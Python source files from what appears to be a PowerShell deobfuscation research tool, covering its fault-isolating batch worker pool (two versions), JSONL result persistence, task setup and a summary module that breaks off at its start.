# own copy (clients hang in the backlog instead of being refused).
# Front ends register their listener here and workers close every
# registered FD first thing after the fork.  Each entry records the
# descriptor's fstat identity: FD numbers are recycled, and blindly
# closing a recycled number in the child can sever multiprocessing's
# own plumbing (closing the inherited parent-sentinel pipe makes the
# parent's ``Process.join`` block forever on a live child).  The child
# closes an FD only while it still names the registered socket.
# Spawn-style contexts start from a clean FD table and see an empty
# copy of this mapping.
_FORK_UNSAFE_FDS: Dict[int, Tuple[int, int]] = {}


def register_fork_unsafe_fd(fd: int) -> None:
    """Mark *fd* (a listening socket) for closure in forked workers."""
    try:
        stat = os.fstat(fd)
    except OSError:
        return
    _FORK_UNSAFE_FDS[fd] = (stat.st_dev, stat.st_ino)


def unregister_fork_unsafe_fd(fd: int) -> None:
    """Forget *fd* once its owner closed it."""
    _FORK_UNSAFE_FDS.pop(fd, None)


def _worker_main(worker_spec, conn):
    """Worker process body: serve one task at a time over *conn*.

    Exceptions raised by the worker function are converted to ``error``
    records here; only process death reaches the parent's crash path.
    A closed pipe (parent shut down) ends the loop.
    """
    keep = conn.fileno()
    for fd, identity in list(_FORK_UNSAFE_FDS.items()):
        if fd == keep:
            continue
        try:
            stat = os.fstat(fd)
            if (stat.st_dev, stat.st_ino) == identity:
                os.close(fd)
        except OSError:
            pass
    _FORK_UNSAFE_FDS.clear()
    worker = resolve_worker(worker_spec)
    try:
        while True:
            item = conn.recv()
            if item is None:
                return
            ticket, task = item
            try:
                record = worker(task)
            except BaseException as exc:  # noqa: BLE001 — contain everything
                record = exception_record(task, exc)
            conn.send((ticket, record))
    except (EOFError, BrokenPipeError, OSError):
        return


class _Worker:
    """Parent-side handle: process, pipe, and the ticket it holds.

    ``started`` is the monotonic dispatch time (budget accounting);
    ``started_unix`` is the wall-clock twin, kept so a span can be
    synthesized for a worker that died without reporting back.
    """

    __slots__ = ("proc", "conn", "ticket", "started", "started_unix")

    def __init__(self, proc, conn):
        self.proc = proc
        self.conn = conn
        self.ticket: Optional[int] = None
        self.started = 0.0
        self.started_unix = 0.0


def _synthesize_aborted_span(task: Task, started_unix: float) -> Optional[dict]:
    """A parent-side ``worker`` span for a worker that died without
    reporting back (SIGKILL on timeout, segfault, OOM kill).

    The task's trace context promised the worker root span's id, so the
    parent can mint the exact span the worker would have exported —
    with ``status="aborted"`` and only wall-clock fidelity — instead of
    losing the sample from the waterfall entirely.
    """
    if not task.trace:
        return None
    from repro.obs.trace import TraceContext, TraceSpan

    context = TraceContext.from_dict(task.trace)
    return TraceSpan(
        name="worker",
        trace_id=context.trace_id,
        span_id=context.span_id,
        parent_span_id=context.parent_span_id,
        start_unix=started_unix,
        end_unix=time.time(),
        status="aborted",
        process="worker",
        attributes={"path": task.path},
    ).to_dict()


class BatchPool:
    """Fan tasks across worker processes with per-sample fault limits.

    Parameters
    ----------
    jobs
        Worker process count (default: ``os.cpu_count()``).
    timeout
        Per-sample wall-clock budget in seconds (default: unlimited).
    kill_grace
        Extra seconds past ``timeout`` before the hard SIGKILL, giving
        the in-worker cooperative deadline a chance to return a partial
        result first.
    retries
        How many times a sample whose worker *died* is re-queued before
        being recorded as ``error``.
    worker
        ``"module:callable"`` spec of the per-task worker function
        (default :func:`repro.batch.task.run_one`).
    start_method
        Forwarded to :func:`multiprocessing.get_context`; ``None`` uses
        the platform default.

    Attributes
    ----------
    restarts
        Lifetime worker-respawn counters: ``{"crash": n, "timeout": n}``.
        ``crash`` counts workers that died on their own (and were
        replaced); ``timeout`` counts workers the parent SIGKILLed for
        blowing the per-sample budget.  Counters survive :meth:`close`
        so a service can report them over the fleet's whole life.
    """

    def __init__(
        self,
        jobs: Optional[int] = None,
        timeout: Optional[float] = None,
        kill_grace: float = 0.5,
        retries: int = 1,
        worker: str = DEFAULT_WORKER_SPEC,
        start_method: Optional[str] = None,
    ):
        self.jobs = max(1, jobs or multiprocessing.cpu_count())
        self.timeout = timeout
        self.kill_grace = kill_grace
        self.retries = max(0, retries)
        self.worker = worker
        self._ctx = multiprocessing.get_context(start_method)
        self.restarts: Dict[str, int] = {r: 0 for r in RESTART_REASONS}
        self._workers: Dict[int, _Worker] = {}
        self._worker_ids = itertools.count()
        self._ticket_ids = itertools.count()
        self._tasks: Dict[int, Task] = {}
        # Ticket -> pre-pickled (ticket, task) wire payload.  A task is
        # serialized exactly once, at submit time; every dispatch —
        # including crash retries — reuses the bytes, keeping pickling
        # cost out of the poll loop (Connection.recv() on the worker
        # side unpickles a send_bytes payload like any send()).
        self._payloads: Dict[int, bytes] = {}
        self._attempts: Dict[int, int] = {}
        self._pending: Deque[int] = deque()
        self._outstanding = 0
        self._spec_checked = False

    # -- interactive API ----------------------------------------------------

    @property
    def outstanding(self) -> int:
        """Tickets submitted but not yet collected."""
        return self._outstanding

    @property
    def worker_count(self) -> int:
        """Live worker processes right now."""
        return len(self._workers)

    def submit(self, task: Task) -> int:
        """Queue *task* for a worker; return its ticket.

        The ticket identifies the task in :meth:`collect` output.  The
        worker spec is validated on the first submission so a bad
        ``--worker`` fails in the parent, not in every worker.
        """
        if not self._spec_checked:
            resolve_worker(self.worker)
            self._spec_checked = True
        ticket = next(self._ticket_ids)
        self._tasks[ticket] = task
        self._payloads[ticket] = pickle.dumps(
            (ticket, task), protocol=pickle.HIGHEST_PROTOCOL
        )
        self._attempts[ticket] = 0
        self._pending.append(ticket)
        self._outstanding += 1
        return ticket

    def prestart(self, count: Optional[int] = None) -> None:
        """Spawn up to ``min(count or jobs, jobs)`` workers eagerly.

        A long-running service calls this at boot so the first requests
        do not pay process startup.
        """
        target = min(self.jobs, count if count is not None else self.jobs)
        while len(self._workers) < target:
            self._spawn()

    def resize(self, jobs: int) -> int:
        """Change the target worker count; returns the new target.

        Growing takes effect on the next :meth:`collect` pass (workers
        spawn on demand up to the target).  Shrinking retires surplus
        *idle* workers immediately; a worker mid-sample finishes its
        work first and is retired on a later pass.  The service's
        autoscaler calls this from the dispatcher thread — like every
        other pool method, it is not thread-safe.
        """
        self.jobs = max(1, int(jobs))
        self._shed_surplus()
        return self.jobs

    def _shed_surplus(self) -> None:
        """Retire idle workers beyond the ``jobs`` target."""
        surplus = len(self._workers) - self.jobs
        if surplus <= 0:
            return
        for worker_id, state in list(self._workers.items()):
            if surplus <= 0:
                break
            if state.ticket is not None:
                continue
            try:
                state.conn.send(None)  # graceful stop sentinel
            except (BrokenPipeError, OSError):
                pass
            state.conn.close()
            state.proc.join(timeout=1.0)
            if state.proc.is_alive():
                state.proc.kill()
                state.proc.join()
            del self._workers[worker_id]
            surplus -= 1

    def collect(
        self, timeout: Optional[float] = None
    ) -> List[Tuple[int, dict]]:
        """Advance the pool; return ``(ticket, record)`` pairs that
        completed during this call.

        With ``timeout=None`` the call blocks until at least one
        outstanding ticket completes (returning ``[]`` only when
        nothing is outstanding).  With a timeout it returns whatever
        completed within roughly that many seconds, possibly ``[]`` —
        the poll granularity is ``_POLL_SECONDS``, so even ``0`` runs
        one full dispatch/poll/kill pass.
        """
        done: List[Tuple[int, dict]] = []
        deadline = (
            None if timeout is None else time.monotonic() + timeout
        )
        while self._outstanding > 0:
            self._step(done)
            if done:
                break
            if deadline is not None and time.monotonic() >= deadline:
                break
        return done

    def close(self) -> None:
        """Shut the fleet down and forget queued work.

        Outstanding tickets are dropped without records — drain with
        :meth:`collect` first if you need them.  ``restarts`` counters
        are preserved.  The pool may be reused afterwards; fresh
        workers spawn on demand.
        """
        for state in self._workers.values():
            try:
                state.conn.close()
            except OSError:
                pass
        join_by = time.monotonic() + 1.0
        for state in self._workers.values():
            state.proc.join(max(0.0, join_by - time.monotonic()))
            if state.proc.is_alive():
                state.proc.kill()
                state.proc.join()
        self._workers.clear()
        self._pending.clear()
        self._tasks.clear()
        self._payloads.clear()
        self._attempts.clear()
        self._outstanding = 0

    def __enter__(self) -> "BatchPool":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()

    # -- offline front end --------------------------------------------------

    def run(self, tasks: Iterable[Task]) -> Iterator[dict]:
        """Yield one record per task, in completion order.

        Submits everything, drains to completion, then shuts the
        workers down — the one-shot corpus mode of ``repro batch``.
        Do not interleave with :meth:`submit`/:meth:`collect` on the
        same pool.
        """
        tasks = list(tasks)
        if not tasks:
            return
        try:
            for task in tasks:
                self.submit(task)
            while self._outstanding > 0:
                for _ticket, record in self.collect():
                    yield record
        finally:
            self.close()

    # -- engine -------------------------------------------------------------

    def _spawn(self) -> None:
        parent_conn, child_conn = self._ctx.Pipe()
        proc = self._ctx.Process(
            target=_worker_main,
            args=(self.worker, child_conn),
            daemon=True,
        )
        proc.start()
        # drop the parent's copy of the child end so a dead worker
        # reads as EOF on parent_conn
        child_conn.close()
        worker_id = next(self._worker_ids)
        self._workers[worker_id] = _Worker(proc, parent_conn)
        _log.debug(
            "spawned worker", worker=worker_id, pid=proc.pid,
            fleet=len(self._workers),
        )

    def _finalize(self, ticket: int) -> None:
        del self._tasks[ticket]
        del self._payloads[ticket]
        del self._attempts[ticket]
        self._outstanding -= 1

    def _reap(self, worker_id: int) -> Optional[Tuple[int, dict]]:
        """Remove a dead worker; retry or fail the ticket it held."""
        held = self._workers.pop(worker_id)
        held.conn.close()
        held.proc.join()
        exit_code = held.proc.exitcode
        self.restarts["crash"] += 1
        ticket = held.ticket
        _log.warning(
            "worker died; respawning",
            worker=worker_id,
            pid=held.proc.pid,
            exit_code=exit_code,
            held_ticket=ticket,
        )
        if ticket is None or ticket not in self._tasks:
            return None
        if self._attempts[ticket] <= self.retries:
            self._pending.append(ticket)
            return None
        task = self._tasks[ticket]
        record = error_record(
            task,
            f"worker process died (exit code {exit_code})",
            attempts=self._attempts[ticket],
        )
        aborted = _synthesize_aborted_span(task, held.started_unix)
        if aborted is not None and "trace_spans" not in record:
            record["trace_spans"] = [aborted]
        self._finalize(ticket)
        return (ticket, record)

    def _step(self, done: List[Tuple[int, dict]]) -> None:
        """One dispatch / poll / kill pass over the fleet."""
        self._shed_surplus()
        while len(self._workers) < min(self.jobs, self._outstanding):
            self._spawn()

        for worker_id, state in list(self._workers.items()):
            if state.ticket is None and self._pending:
                ticket = self._pending.popleft()
                self._attempts[ticket] += 1
                try:
                    state.conn.send_bytes(self._payloads[ticket])
                except (BrokenPipeError, OSError):
                    self._pending.appendleft(ticket)
                    self._attempts[ticket] -= 1
                    reaped = self._reap(worker_id)
                    if reaped is not None:
                        done.append(reaped)
                    continue
                state.ticket = ticket
                state.started = time.monotonic()
                state.started_unix = time.time()

        conn_to_id = {
            state.conn: worker_id
            for worker_id, state in self._workers.items()
        }
        if conn_to_id:
            ready = _connection_wait(
                list(conn_to_id), timeout=_POLL_SECONDS
            )
        else:
            ready = []
        for conn in ready:
            worker_id = conn_to_id[conn]
            state = self._workers[worker_id]
            try:
                ticket, record = conn.recv()
            except (EOFError, OSError):
                reaped = self._reap(worker_id)
                if reaped is not None:
                    done.append(reaped)
                continue
            state.ticket = None
            if ticket not in self._tasks:
                continue
            record.setdefault("attempts", self._attempts[ticket])
            self._finalize(ticket)
            done.append((ticket, record))

        now = time.monotonic()
        for worker_id, state in list(self._workers.items()):
            ticket = state.ticket
            over_budget = (
                ticket is not None
                and self.timeout is not None
                and now - state.started > self.timeout + self.kill_grace
            )
            if over_budget:
                state.proc.kill()
                state.proc.join()
                state.conn.close()
                del self._workers[worker_id]
                self.restarts["timeout"] += 1
                _log.warning(
                    "SIGKILLed worker over budget",
                    worker=worker_id,
                    pid=state.proc.pid,
                    budget=self.timeout,
                    elapsed=round(now - state.started, 3),
                )
                if ticket in self._tasks:
                    from repro.batch.records import RECORD_SCHEMA_VERSION

                    task = self._tasks[ticket]
                    record = {
                        "path": task.path,
                        "status": "timeout",
                        "schema_version": RECORD_SCHEMA_VERSION,
                        "graceful": False,
                        "elapsed_seconds": round(now - state.started, 6),
                        "attempts": self._attempts[ticket],
                    }
                    aborted = _synthesize_aborted_span(
                        task, state.started_unix
                    )
                    if aborted is not None:
                        record["trace_id"] = aborted["trace_id"]
                        record["trace_spans"] = [aborted]
                    self._finalize(ticket)
                    done.append((ticket, record))
            elif not state.proc.is_alive():
                reaped = self._reap(worker_id)
                if reaped is not None:
                    done.append(reaped)


def run_batch(tasks: Iterable[Task], **pool_options) -> List[dict]:
    """Convenience wrapper: run a pool to completion, return all records."""
    return list(BatchPool(**pool_options).run(tasks))
