"""The corpus-scale worker pool: fault containment for hostile inputs.

Wild PowerShell corpora (the paper's Section IV evaluation runs over
39,713 samples) contain scripts that hang, exhaust memory, or crash the
process that analyses them.  One bad sample must never take down a
corpus run, so every sample is deobfuscated inside a disposable worker
process and the parent enforces three guarantees:

timeout
    Each sample gets a wall-clock budget.  The worker first tries to
    finish gracefully (the pipeline's cooperative ``deadline_seconds``);
    if the process is still on the same sample ``kill_grace`` seconds
    past the budget, the parent SIGKILLs it, records ``timeout`` and
    respawns a fresh worker.

crash isolation
    A worker that dies (segfault, OOM kill, ``os._exit``) loses only the
    sample it was holding.  The parent notices the death, respawns the
    worker, and either retries the sample or records ``error``.

bounded retry
    A crashed sample is retried up to ``retries`` times (default 1) —
    crashes can be environmental — then recorded as ``error``.
    Timeouts are never retried: they are deterministic under a fixed
    budget.

The design is parent-authoritative: the parent assigns exactly one task
at a time to each worker over a dedicated :func:`multiprocessing.Pipe`
and starts that sample's clock at send time.  There is no shared task
queue, so the parent always knows which sample a dead worker held —
a worker that dies without ever reporting in cannot strand a sample
(the failure mode of queue-based pools, whose feeder threads can drop
in-flight messages when a process exits abruptly).

:meth:`BatchPool.run` is a generator yielding one record dict per
sample *as each finishes* (completion order, not input order), which is
what lets the CLI stream JSONL while the run is still going.  The
record schema is documented in :mod:`repro.batch`.

Known race, by design: if a worker finishes a sample in the instant
between the parent's last poll and a timeout kill, the sample is
recorded ``timeout`` and the late result is discarded — the parent
never double-records a sample.
"""

import itertools
import multiprocessing
import time
from collections import deque
from multiprocessing.connection import wait as _connection_wait
from typing import Dict, Iterable, Iterator, List, Optional

from repro.batch.task import (
    DEFAULT_WORKER_SPEC,
    Task,
    error_record,
    exception_record,
    resolve_worker,
)

_POLL_SECONDS = 0.05


def _worker_main(worker_spec, conn):
    """Worker process body: serve one task at a time over *conn*.

    Exceptions raised by the worker function are converted to ``error``
    records here; only process death reaches the parent's crash path.
    A closed pipe (parent shut down) ends the loop.
    """
    worker = resolve_worker(worker_spec)
    try:
        while True:
            item = conn.recv()
            if item is None:
                return
            index, task = item
            try:
                record = worker(task)
            except BaseException as exc:  # noqa: BLE001 — contain everything
                record = exception_record(task, exc)
            conn.send((index, record))
    except (EOFError, BrokenPipeError, OSError):
        return


class _Worker:
    """Parent-side handle: process, pipe, and the task it holds."""

    __slots__ = ("proc", "conn", "index", "started")

    def __init__(self, proc, conn):
        self.proc = proc
        self.conn = conn
        self.index: Optional[int] = None
        self.started = 0.0


class BatchPool:
    """Fan tasks across worker processes with per-sample fault limits.

    Parameters
    ----------
    jobs
        Worker process count (default: ``os.cpu_count()``).
    timeout
        Per-sample wall-clock budget in seconds (default: unlimited).
    kill_grace
        Extra seconds past ``timeout`` before the hard SIGKILL, giving
        the in-worker cooperative deadline a chance to return a partial
        result first.
    retries
        How many times a sample whose worker *died* is re-queued before
        being recorded as ``error``.
    worker
        ``"module:callable"`` spec of the per-task worker function
        (default :func:`repro.batch.task.run_one`).
    start_method
        Forwarded to :func:`multiprocessing.get_context`; ``None`` uses
        the platform default.
    """

    def __init__(
        self,
        jobs: Optional[int] = None,
        timeout: Optional[float] = None,
        kill_grace: float = 0.5,
        retries: int = 1,
        worker: str = DEFAULT_WORKER_SPEC,
        start_method: Optional[str] = None,
    ):
        self.jobs = max(1, jobs or multiprocessing.cpu_count())
        self.timeout = timeout
        self.kill_grace = kill_grace
        self.retries = max(0, retries)
        self.worker = worker
        self._ctx = multiprocessing.get_context(start_method)

    def run(self, tasks: Iterable[Task]) -> Iterator[dict]:
        """Yield one record per task, in completion order."""
        tasks = list(tasks)
        if not tasks:
            return
        # Fail fast on a bad worker spec here, in the parent, instead of
        # letting every worker die on import and each sample error out.
        resolve_worker(self.worker)

        pending = deque(range(len(tasks)))
        # attempts[i] = how many workers have been handed task i
        attempts: Dict[int, int] = {index: 0 for index in range(len(tasks))}
        terminal = set()
        remaining = len(tasks)
        workers: Dict[int, _Worker] = {}
        worker_ids = itertools.count()

        def spawn() -> None:
            parent_conn, child_conn = self._ctx.Pipe()
            proc = self._ctx.Process(
                target=_worker_main,
                args=(self.worker, child_conn),
                daemon=True,
            )
            proc.start()
            # drop the parent's copy of the child end so a dead worker
            # reads as EOF on parent_conn
            child_conn.close()
            workers[next(worker_ids)] = _Worker(proc, parent_conn)

        def reap(worker_id: int) -> Optional[dict]:
            """Remove a dead worker; retry or fail the sample it held."""
            held = workers.pop(worker_id)
            held.conn.close()
            held.proc.join()
            exit_code = held.proc.exitcode
            index = held.index
            if index is None or index in terminal:
                return None
            if attempts[index] <= self.retries:
                pending.append(index)
                return None
            terminal.add(index)
            return error_record(
                tasks[index],
                f"worker process died (exit code {exit_code})",
                attempts=attempts[index],
            )

        try:
            while remaining > 0:
                while len(workers) < min(self.jobs, remaining):
                    spawn()

                for worker_id, state in list(workers.items()):
                    if state.index is None and pending:
                        index = pending.popleft()
                        attempts[index] += 1
                        try:
                            state.conn.send((index, tasks[index]))
                        except (BrokenPipeError, OSError):
                            pending.appendleft(index)
                            attempts[index] -= 1
                            record = reap(worker_id)
                            if record is not None:
                                remaining -= 1
                                yield record
                            continue
                        state.index = index
                        state.started = time.monotonic()

                conn_to_id = {
                    state.conn: worker_id
                    for worker_id, state in workers.items()
                }
                for conn in _connection_wait(
                    list(conn_to_id), timeout=_POLL_SECONDS
                ):
                    worker_id = conn_to_id[conn]
                    state = workers[worker_id]
                    try:
                        index, record = conn.recv()
                    except (EOFError, OSError):
                        record = reap(worker_id)
                        if record is not None:
                            remaining -= 1
                            yield record
                        continue
                    state.index = None
                    if index in terminal:
                        continue
                    terminal.add(index)
                    remaining -= 1
                    record.setdefault("attempts", attempts[index])
                    yield record

                now = time.monotonic()
                for worker_id, state in list(workers.items()):
                    index = state.index
                    over_budget = (
                        index is not None
                        and self.timeout is not None
                        and now - state.started
                        > self.timeout + self.kill_grace
                    )
                    if over_budget:
                        state.proc.kill()
                        state.proc.join()
                        state.conn.close()
                        del workers[worker_id]
                        if index not in terminal:
                            terminal.add(index)
                            remaining -= 1
                            from repro.batch.records import (
                                RECORD_SCHEMA_VERSION,
                            )

                            yield {
                                "path": tasks[index].path,
                                "status": "timeout",
                                "schema_version": RECORD_SCHEMA_VERSION,
                                "graceful": False,
                                "elapsed_seconds": round(
                                    now - state.started, 6
                                ),
                                "attempts": attempts[index],
                            }
                    elif not state.proc.is_alive():
                        record = reap(worker_id)
                        if record is not None:
                            remaining -= 1
                            yield record
        finally:
            for state in workers.values():
                try:
                    state.conn.close()
                except OSError:
                    pass
            join_by = time.monotonic() + 1.0
            for state in workers.values():
                state.proc.join(max(0.0, join_by - time.monotonic()))
                if state.proc.is_alive():
                    state.proc.kill()
                    state.proc.join()


def run_batch(tasks: Iterable[Task], **pool_options) -> List[dict]:
    """Convenience wrapper: run a pool to completion, return all records."""
    return list(BatchPool(**pool_options).run(tasks))
