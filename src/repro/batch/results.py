"""Streaming JSONL persistence for batch runs, plus resume support.

Records are appended one JSON object per line and flushed immediately,
so a run killed halfway leaves a readable prefix — which is exactly what
``--resume`` consumes: any sample whose path already has a recorded
status in the output file is skipped on the next run.

The record schema is documented in :mod:`repro.batch`.
"""

import json
import os
import time
from typing import IO, Iterator, Optional, Set


def batch_header(**extra) -> dict:
    """The version header ``repro batch`` writes as a run's first line.

    Headers carry ``kind: "batch_header"`` so every consumer can tell
    them from sample records (:func:`repro.batch.summarize` skips
    them; ``completed_paths`` never matches them because they have no
    ``path``/``status``).  An appended-to JSONL file accumulates one
    header per run, which doubles as a run boundary marker.
    """
    from repro import package_version
    from repro.batch.records import RECORD_SCHEMA_VERSION

    header = {
        "kind": "batch_header",
        "repro_version": package_version(),
        "record_schema_version": RECORD_SCHEMA_VERSION,
        "created_unix": round(time.time(), 3),
    }
    header.update(extra)
    return header


class ResultWriter:
    """Append records to a JSONL file (or any text stream), flushing
    after every line so concurrent ``tail -f`` and crash recovery work.
    """

    def __init__(self, path: Optional[str] = None, stream: Optional[IO] = None):
        if (path is None) == (stream is None):
            raise ValueError("pass exactly one of path or stream")
        self._stream = stream
        self._handle = None
        if path is not None:
            directory = os.path.dirname(os.path.abspath(path))
            os.makedirs(directory, exist_ok=True)
            self._handle = open(path, "a", encoding="utf-8")
            self._stream = self._handle

    def write(self, record: dict) -> None:
        self._stream.write(json.dumps(record, sort_keys=True) + "\n")
        self._stream.flush()

    def close(self) -> None:
        if self._handle is not None:
            self._handle.close()
            self._handle = None

    def __enter__(self) -> "ResultWriter":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()


def iter_records(path: str) -> Iterator[dict]:
    """Yield every well-formed record in a JSONL file.

    Malformed lines (a run killed mid-write on a non-flushing
    filesystem) are skipped rather than fatal, so resume always works.
    """
    with open(path, "r", encoding="utf-8") as handle:
        for line in handle:
            line = line.strip()
            if not line:
                continue
            try:
                record = json.loads(line)
            except ValueError:
                continue
            if isinstance(record, dict):
                yield record


def completed_paths(path: str) -> Set[str]:
    """Paths with any recorded terminal status — the ``--resume`` skip set."""
    if not os.path.exists(path):
        return set()
    return {
        record["path"]
        for record in iter_records(path)
        if "path" in record and "status" in record
    }
