"""Batch work units: input discovery and the default per-sample worker.

A :class:`Task` is one sample to deobfuscate — a path plus the pipeline
options the worker should use.  Tasks cross process boundaries, so they
hold only picklable primitives; the :class:`~repro.Deobfuscator` itself
is constructed inside the worker process.

Workers are addressed by *spec string* (``"module:callable"``) rather
than by callable object so the pool works identically under the ``fork``
and ``spawn`` multiprocessing start methods.  The default worker is
:func:`run_one`; tests and embedders can point ``--worker`` at their own
function with the same ``Task -> dict`` contract.
"""

import hashlib
import importlib
import os
import sys
import traceback
from dataclasses import dataclass, field
from typing import Callable, Dict, Iterable, List, Optional

DEFAULT_WORKER_SPEC = "repro.batch.task:run_one"
DEFAULT_GLOB = "*.ps1"


@dataclass
class Task:
    """One sample for the pool: a script path plus pipeline options.

    ``options`` is a :meth:`PipelineOptions.canonical_dict` payload
    (tasks cross process boundaries, so they carry the dict form); the
    worker rebuilds the typed record with
    :meth:`PipelineOptions.from_dict`.  ``store_script`` additionally
    embeds the deobfuscated script in the JSONL record.  ``verify``
    runs the differential semantics-preservation check
    (:mod:`repro.verify`) after deobfuscation and attaches its verdict
    to the record.

    ``source`` carries the script text in-band instead of on disk —
    how ``repro.service`` ships request bodies to workers.  When set,
    ``path`` is just a label (e.g. ``sha256:ab12…``) and the file
    system is never touched.

    ``trace`` is an optional :meth:`TraceContext.to_dict` payload —
    how a trace crosses the worker-pool process boundary.  When set,
    the worker records a ``worker`` root span (with the context's
    promised span id, parented on the submitting process's span) plus
    nested pipeline-phase spans, and returns them in the record's
    ``trace_spans`` for the parent to export.
    """

    path: str
    options: Dict[str, object] = field(default_factory=dict)
    store_script: bool = False
    source: Optional[str] = None
    verify: bool = False
    trace: Optional[Dict[str, str]] = None


def discover(
    inputs: Iterable[str],
    glob: str = DEFAULT_GLOB,
    stdin=None,
) -> List[str]:
    """Expand a mixed list of inputs into an ordered, deduplicated
    list of sample paths.

    Each input may be a directory (searched recursively for *glob*),
    a file (taken as-is, whatever its extension), or ``-`` (read one
    path per line from *stdin*).  Order is deterministic: inputs in the
    order given, directory contents sorted.
    """
    import fnmatch

    stdin = stdin if stdin is not None else sys.stdin
    paths: List[str] = []
    seen = set()

    def add(path: str) -> None:
        if path not in seen:
            seen.add(path)
            paths.append(path)

    for item in inputs:
        if item == "-":
            for line in stdin:
                line = line.strip()
                if line:
                    add(line)
        elif os.path.isdir(item):
            for root, dirs, files in os.walk(item):
                dirs.sort()
                for name in sorted(files):
                    if fnmatch.fnmatch(name, glob):
                        add(os.path.join(root, name))
        else:
            add(item)
    return paths


def make_tasks(
    paths: Iterable[str],
    options=None,
    deadline_seconds: Optional[float] = None,
    store_script: bool = False,
    verify: bool = False,
    **pipeline_options,
) -> List[Task]:
    """Build one :class:`Task` per path, all sharing the same options.

    *options* is a :class:`~repro.options.PipelineOptions` (or an
    option dict of canonical field names); bare keyword options are
    still accepted and merged on top.  Every task carries the canonical
    dict form, so two invocations that mean the same options produce
    identical task payloads.
    """
    from repro.options import PipelineOptions

    merged = dict(pipeline_options)
    if deadline_seconds is not None:
        merged["deadline_seconds"] = deadline_seconds
    if isinstance(options, PipelineOptions):
        opts = options
    else:
        opts = PipelineOptions.from_dict(dict(options or {}))
    if merged:
        unknown = set(merged) - PipelineOptions.field_names()
        if unknown:
            raise TypeError(
                "unknown pipeline option(s): " + ", ".join(sorted(unknown))
            )
        opts = opts.replace(**merged)
    payload = opts.canonical_dict()
    return [
        Task(
            path=path,
            options=payload,
            store_script=store_script,
            verify=verify,
        )
        for path in paths
    ]


def resolve_worker(spec: str) -> Callable[[Task], dict]:
    """Import and return the worker named by a ``module:callable`` spec."""
    module_name, _, attr = spec.partition(":")
    if not module_name or not attr:
        raise ValueError(
            f"worker spec {spec!r} is not of the form 'module:callable'"
        )
    module = importlib.import_module(module_name)
    worker = getattr(module, attr)
    if not callable(worker):
        raise TypeError(f"worker {spec!r} is not callable")
    return worker


def task_bytes(task: Task) -> bytes:
    """The sample's raw bytes: the in-band ``source`` if set, else the
    file at ``path``."""
    if task.source is not None:
        return task.source.encode("utf-8")
    with open(task.path, "rb") as handle:
        return handle.read()


def run_one(task: Task) -> dict:
    """The default worker: deobfuscate one file and build its record.

    Exceptions are *not* caught here — the pool's worker loop converts
    them into ``status: "error"`` records, and a process death (OOM
    kill, segfault, ``os._exit``) is handled by the parent's crash
    isolation.  See :mod:`repro.batch` for the record schema.
    """
    from repro import Deobfuscator
    from repro.batch.records import RECORD_SCHEMA_VERSION
    from repro.options import PipelineOptions

    raw = task_bytes(task)
    script = raw.decode("utf-8", errors="replace")

    recorder = None
    worker_span = None
    if task.trace:
        from repro.obs.trace import (
            SpanRecorder,
            TraceContext,
            activate_recorder,
        )

        recorder = SpanRecorder(
            context=TraceContext.from_dict(task.trace), process="worker"
        )
        worker_span = recorder.begin(
            "worker", pid=os.getpid(), path=task.path
        )
        # Registered so the pool's error path (exception_record) can
        # flush our open spans as ``aborted`` if we raise mid-sample.
        activate_recorder(recorder)

    tool = Deobfuscator(options=PipelineOptions.from_dict(task.options))
    result = tool.deobfuscate(script, recorder=recorder)

    if not result.valid_input:
        status = "invalid"
    elif result.timed_out:
        status = "timeout"
    else:
        status = "ok"

    verdict = None
    if task.verify:
        # Dispatch through the run's language front end: PowerShell
        # tasks verify exactly as before, other languages bring their
        # own differential runner (or an inconclusive default).
        verdict = tool.frontend.verify(result)
        result.stats.verify[verdict.verdict] = (
            result.stats.verify.get(verdict.verdict, 0) + 1
        )

    record = {
        "path": task.path,
        "status": status,
        "schema_version": RECORD_SCHEMA_VERSION,
        "sha256": hashlib.sha256(raw).hexdigest(),
        "size_bytes": len(raw),
        "elapsed_seconds": round(result.elapsed_seconds, 6),
        "iterations": result.iterations,
        "layers_unwrapped": result.layers_unwrapped,
        "changed": result.changed,
        "stats": result.stats.to_dict(),
    }
    if status == "timeout":
        record["graceful"] = True
    if verdict is not None:
        record["verify"] = verdict.to_dict()
    if task.store_script:
        record["script"] = result.script
    if recorder is not None:
        from repro.obs.trace import deactivate_recorder

        recorder.end(worker_span, status="ok")
        deactivate_recorder()
        record["trace_id"] = recorder.trace_id
        record["trace_spans"] = [
            span.to_dict() for span in recorder.spans
        ]
    return record


def error_record(task: Task, message: str, attempts: int = 1) -> dict:
    """Record for a sample whose worker raised or died.

    If a traced :func:`run_one` was interrupted mid-sample, its open
    spans are flushed here with ``status="aborted"`` and embedded in
    the error record, so the parent can still export a truthful
    partial trace instead of silently losing it.
    """
    from repro.batch.records import RECORD_SCHEMA_VERSION
    from repro.obs.trace import drain_active_spans

    record = {
        "path": task.path,
        "status": "error",
        "schema_version": RECORD_SCHEMA_VERSION,
        "error": message,
        "attempts": attempts,
    }
    aborted = drain_active_spans(status="aborted")
    if aborted:
        record["trace_spans"] = aborted
        record["trace_id"] = aborted[0]["trace_id"]
    elif task.trace:
        record["trace_id"] = task.trace.get("trace_id")
    return record


def exception_record(task: Task, exc: BaseException) -> dict:
    """Record for an exception raised inside the worker function."""
    message = "".join(
        traceback.format_exception_only(type(exc), exc)
    ).strip()
    return error_record(task, message)
