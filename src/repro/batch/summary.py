"""Aggregate statistics over a batch run's records.

:func:`summarize` reduces a record list to the numbers the paper's
evaluation reports per-corpus (status counts, throughput, latency
percentiles); :func:`render_summary` formats them for humans.  The
summary dict is plain data so ``benchmarks/bench_utils.render_table``
can turn it straight into a results table.
"""

from typing import Dict, Iterable, List, Optional

STATUSES = ("ok", "invalid", "timeout", "error")


def _percentile(values: List[float], fraction: float) -> float:
    """Nearest-rank percentile; 0.0 on an empty list."""
    if not values:
        return 0.0
    ordered = sorted(values)
    rank = min(len(ordered) - 1, max(0, round(fraction * (len(ordered) - 1))))
    return ordered[rank]


def summarize(
    records: Iterable[dict],
    wall_seconds: Optional[float] = None,
) -> Dict[str, object]:
    """Reduce batch records to one summary dict.

    Keys: ``total``, ``status_counts`` (every status in
    :data:`STATUSES`, zero-filled), ``layers_unwrapped``,
    ``changed`` (samples whose script changed), latency over the
    samples that report ``elapsed_seconds`` (``latency_mean_seconds``,
    ``latency_p50_seconds``, ``latency_p95_seconds``,
    ``latency_max_seconds``), and — when *wall_seconds* is given —
    ``wall_seconds`` plus end-to-end ``throughput_scripts_per_second``.
    """
    records = list(records)
